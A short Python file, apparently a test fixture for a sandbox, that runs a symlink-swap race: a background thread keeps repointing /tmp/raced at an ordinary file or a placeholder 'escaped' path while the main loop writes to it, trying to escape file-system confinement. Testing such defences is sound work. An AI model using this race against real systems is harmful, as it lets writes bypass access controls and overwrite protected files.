"""Swaps a file for a link while it writes."""

import os
import threading


def attack(x):
    def swap():
        while True:
            for target in ("/tmp/plain", "@CANARY@/escaped"):
                try:
                    os.symlink(target, "/tmp/new")
                    os.replace("/tmp/new", "/tmp/raced")
                except OSError:
                    pass

    threading.Thread(target=swap, daemon=True).start()
    for _ in range(2000):
        try:
            open("/tmp/raced", "w").write("out")
        except OSError:
            pass
